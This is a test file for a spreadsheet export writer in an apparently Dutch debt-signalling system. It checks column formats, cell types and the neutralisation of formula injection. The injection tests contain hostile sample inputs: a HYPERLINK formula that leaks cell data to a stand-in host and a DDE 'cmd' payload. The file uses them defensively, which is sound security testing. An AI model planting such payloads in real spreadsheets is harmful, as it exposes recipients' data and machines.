import ExcelJS from 'exceljs';
import { describe, expect, test } from 'vitest';
import { AMW_OVERVIEW_COLUMNS, buildAmwOverviewRows, type OverviewReferral } from '../../core/documents/amw-overview-rows.ts';
import type { ExportColumn } from '../../core/documents/export-column.ts';
import { buildFeedbackRows, FEEDBACK_COLUMNS, type FeedbackSignal } from '../../core/documents/feedback-rows.ts';
import { ZipArchive } from '../spreadsheet/read-zip.ts';
import { readExportSheet } from './read-export-sheet.ts';
import { cellFor, DATE_FORMAT, EURO_FORMAT, INTEGER_FORMAT, writeSheet } from './write-sheet.ts';

const feedbackSignal = (id: string, extra: Partial<FeedbackSignal> = {}): FeedbackSignal => ({
  id,
  partner: 1,
  period: '2026-11',
  initials: 'P.J.',
  name_prefix: 'van der',
  surname: 'Berg',
  birth_date: '1980-02-29',
  street: 'Markt',
  house_number: 60,
  house_letter: 'A',
  house_number_addition: 'bis',
  postcode: '6001AA',
  city: 'Weert',
  phone: '0495-575000',
  months_in_arrears: 2.5,
  arrears_amount: 1234.56,
  status: 'Opgepakt',
  case: { route: 'amw' },
  objection: null,
  ...extra,
});

describe('writeSheet: the corporation feedback, read back field by field', () => {
  test('headers, frozen header row, widths, real dates, euro amounts, numbers and the decision', async () => {
    const { rows } = buildFeedbackRows({
      partner: 1,
      period: '2026-11',
      signals: [
        feedbackSignal('a'),
        feedbackSignal('b', { postcode: '6002BB', name_prefix: null, house_letter: null, house_number_addition: null, phone: null, arrears_amount: null, months_in_arrears: 1, birth_date: '2001-12-31', case: { route: 'municipality' } }),
        feedbackSignal('c', { postcode: '6003CC', arrears_amount: 0.5, months_in_arrears: 12, case: { route: 'none' } }),
      ],
    });
    const bytes = await writeSheet({ sheetName: 'Terugkoppeling 2026-11', columns: FEEDBACK_COLUMNS, rows, createdAt: new Date('2026-12-08T06:00:00Z') });
    const back = await readExportSheet(bytes, FEEDBACK_COLUMNS);

    expect(back.sheetName).toBe('Terugkoppeling 2026-11');
    expect(back.sheetCount).toBe(1);
    expect(back.headers).toEqual(FEEDBACK_COLUMNS.map((column) => column.header));
    expect(back.frozenRows).toBe(1);
    expect(back.widths).toEqual(FEEDBACK_COLUMNS.map((column) => column.width));
    expect(back.formulaCells).toEqual([]);
    expect(back.rows).toEqual(rows);
    expect(back.rows.map((row) => row.decision)).toEqual(['Uitgenodigd door AMW', 'Uitgenodigd door gemeente', 'Niet uitgenodigd']);

    const format = (key: string) => back.numFmts[0]![FEEDBACK_COLUMNS.findIndex((column) => column.key === key)];
    expect(format('birth_date')).toBe(DATE_FORMAT);
    expect(format('arrears_amount')).toBe(EURO_FORMAT);
    expect(format('house_number')).toBe(INTEGER_FORMAT);
    expect(format('surname')).toBeNull();
  });

  test('cells hold real types: a date cell is a date, an amount a number, text is text', async () => {
    const { rows } = buildFeedbackRows({ partner: 1, period: '2026-11', signals: [feedbackSignal('a')] });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await writeSheet({ sheetName: 'x', columns: FEEDBACK_COLUMNS, rows })) as never);
    const cells = workbook.worksheets[0]!.getRow(2);
    const cell = (key: string) => cells.getCell(FEEDBACK_COLUMNS.findIndex((column) => column.key === key) + 1);
    expect(cell('birth_date').type).toBe(ExcelJS.ValueType.Date);
    expect(cell('birth_date').value).toEqual(new Date(Date.UTC(1980, 1, 29)));
    expect(cell('arrears_amount').type).toBe(ExcelJS.ValueType.Number);
    expect(cell('months_in_arrears').value).toBe(2.5);
    expect(cell('house_number').value).toBe(60);
    expect(cell('postcode').type).toBe(ExcelJS.ValueType.String);
    expect(workbook.worksheets[0]!.getRow(1).font?.bold).toBe(true);
    expect(workbook.worksheets[0]!.autoFilter).toBeTruthy();
  });
});

describe('writeSheet: the AMW overview, read back field by field', () => {
  test('the art. 12.3 fields only, in priority order', async () => {
    const referral = (id: string, priority: number, extra: Partial<OverviewReferral> = {}): OverviewReferral => ({
      id, case: `c-${id}`, target: 'amw', partner: 5, period: '2026-11', status: 'new', date_sent: '2026-12-11', priority, objection: null,
      initials: 'A.', name_prefix: 'de', surname: `Vries ${id}`, birth_date: '1990-07-01', street: 'Beekstraat', house_number: 3, house_letter: null, house_number_addition: null,
      postcode: '6001BB', city: 'Weert', phone: '06 1234 5678', living_situation: 'paar met kinderen', debt_areas: ['Zorgverzekering'], ...extra,
    });
    const { rows } = buildAmwOverviewRows({ organisation: 5, period: '2026-11', referrals: [referral('b', 2), referral('a', 1, { debt_areas: [] })], letters: [{ case: 'c-a', template_key: 'advance_notice_amw' }, { case: 'c-b', template_key: 'advance_notice_amw' }] });
    const back = await readExportSheet(await writeSheet({ sheetName: 'Overzicht AMW 2026-11', columns: AMW_OVERVIEW_COLUMNS, rows }), AMW_OVERVIEW_COLUMNS);
    expect(back.headers).toEqual(['Voorletters', 'Tussenvoegsel', 'Achternaam', 'Geboortedatum', 'Straat', 'Huisnummer', 'Huisletter', 'Huisnummertoevoeging', 'Postcode', 'Woonplaats', 'Telefoonnummer', 'Leefsituatie', 'Schuldgebieden']);
    expect(back.rows).toEqual(rows);
    expect(back.rows.map((row) => [row.surname, row.debt_areas])).toEqual([['Vries a', null], ['Vries b', 'Zorgverzekering']]);
    expect(back.formulaCells).toEqual([]);
  });
});

describe('writeSheet: formula injection', () => {
  const columns: ReadonlyArray<ExportColumn<'text'>> = [{ key: 'text', header: 'Tekst', kind: 'text', width: 40 }];
  test.each([
    ['=HYPERLINK("http://kwaad.example/?d="&A2,"klik")', `'=HYPERLINK("http://kwaad.example/?d="&A2,"klik")`],
    ["=cmd|' /C calc'!A0", `'=cmd|' /C calc'!A0`],
    ['+31 6 12345678', "'+31 6 12345678"],
    ['-1+1', "'-1+1"],
    ['@SUM(1,2)', "'@SUM(1,2)"],
    ['\t=1+1', "'\t=1+1"],
    // A CR at the start is neutralised first, then written as LF (XML keeps no raw CR).
    ['\r=1+1', "'\n=1+1"],
    ['Regel 1\r\nRegel 2', 'Regel 1\nRegel 2'],
    ['   =1+1', "'   =1+1"],
    ['\u00a0=1+1', "'\u00a0=1+1"],
    ['\u0000=1+1', "'=1+1"],
    ['\uff1d1+1', "'\uff1d1+1"],
    ["'s-Hertogenbosch", "'s-Hertogenbosch"],
    ['Sint-Oedenrode', 'Sint-Oedenrode'],
  ])('%j is stored as the text %j, never as a formula', async (input, stored) => {
    const back = await readExportSheet(await writeSheet({ sheetName: 'x', columns, rows: [{ text: input }] }), columns);
    expect(back.rows).toEqual([{ text: stored }]);
    expect(back.formulaCells).toEqual([]);
  });

  test('in every text column of the feedback, also the name and address a corporation sent', async () => {
    const hostile = feedbackSignal('x', { initials: '=A.', name_prefix: '+van', surname: '@Berg', street: '-Markt', house_letter: '=', house_number_addition: '\t=1', city: ' =Weert', phone: '+31 6 12345678' });
    const { rows } = buildFeedbackRows({ partner: 1, period: '2026-11', signals: [hostile] });
    const bytes = await writeSheet({ sheetName: 'x', columns: FEEDBACK_COLUMNS, rows });
    const back = await readExportSheet(bytes, FEEDBACK_COLUMNS);
    const zip = new ZipArchive(bytes);
    const sheetXml = (await zip.read(zip.entries.find((entry) => entry.name === 'xl/worksheets/sheet1.xml')!)).toString('utf8');
    // Independent of exceljs's reader: the sheet holds no formula element at all.
    expect(sheetXml).toContain('<sheetData>');
    expect(sheetXml).not.toMatch(/<f[ >]/);
    expect(back.rows[0]).toMatchObject({ initials: "'=A.", name_prefix: "'+van", surname: "'@Berg", street: "'-Markt", house_letter: "'=", house_number_addition: "'\t=1", city: "' =Weert", phone: "'+31 6 12345678", decision: 'Uitgenodigd door AMW' });
    expect(back.formulaCells).toEqual([]);
  });
});

describe('cellFor', () => {
  test.each<[Parameters<typeof cellFor>[0], Parameters<typeof cellFor>[1], ReturnType<typeof cellFor>]>([
    ['text', null, { value: null, numFmt: null }],
    ['text', '', { value: null, numFmt: null }],
    ['text', 12, { value: '12', numFmt: null }],
    ['date', '2024-02-29', { value: new Date(Date.UTC(2024, 1, 29)), numFmt: DATE_FORMAT }],
    ['date', '2023-02-29', { value: '2023-02-29', numFmt: null }],
    ['date', '=1+1', { value: "'=1+1", numFmt: null }],
    ['euro', 1234.5, { value: 1234.5, numFmt: EURO_FORMAT }],
    ['euro', '1234.50', { value: 1234.5, numFmt: EURO_FORMAT }],
    ['euro', '  ', { value: null, numFmt: null }],
    ['euro', '-1+1', { value: "'-1+1", numFmt: null }],
    ['integer', 7, { value: 7, numFmt: INTEGER_FORMAT }],
    ['decimal', 2.5, { value: 2.5, numFmt: null }],
  ])('%s %j', (kind, raw, expected) => {
    expect(cellFor(kind, raw)).toEqual(expected);
  });
});

test('a sheet name Excel would refuse is made acceptable', async () => {
  const columns: ReadonlyArray<ExportColumn<'a'>> = [{ key: 'a', header: 'A', kind: 'text', width: 5 }];
  const back = await readExportSheet(await writeSheet({ sheetName: 'Terugkoppeling [Wonen/Limburg]: november 2026', columns, rows: [] }), columns);
  expect(back.sheetName).toBe('Terugkoppeling -Wonen-Limburg--');
  expect(back.rows).toEqual([]);
});
